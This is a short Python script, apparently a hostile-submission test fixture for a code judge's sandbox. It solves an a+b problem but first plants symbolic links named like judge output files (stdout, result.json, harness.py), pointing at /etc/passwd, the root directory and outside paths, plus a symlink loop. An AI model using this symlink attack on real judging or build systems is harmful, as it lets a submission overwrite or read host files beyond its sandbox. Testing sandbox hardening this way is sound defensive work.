# Plant symbolic links where a judge might write or read after the run, pointing at host files.
import os

a, b = map(int, input().split())
targets = {
    "solution.py": "@OUTSIDE@/keep.txt", "Main.class": "@OUTSIDE@/keep.txt",
    "output.txt": "@OUTSIDE@/keep.txt", "stdout": "@OUTSIDE@/keep.txt", "stderr": "/etc/passwd",
    "run_stdout.txt": "@OUTSIDE@/keep.txt", "result.json": "@OUTSIDE@/keep.txt",
    "harness.py": "@OUTSIDE@/keep.txt", "keepdir": "@OUTSIDE@/keepdir", "root": "/",
    "loop-a": "loop-b", "loop-b": "loop-a",
}
for directory in (".", os.environ.get("TMPDIR", "/tmp")):
    for name, target in targets.items():
        try:
            os.symlink(target, os.path.join(directory, name))
        except OSError:
            pass
    try:
        os.makedirs(os.path.join(directory, "nest/deeper"), exist_ok=True)
        os.symlink("@OUTSIDE@/keepdir", os.path.join(directory, "nest/deeper/link"))
    except OSError:
        pass
print(a + b)
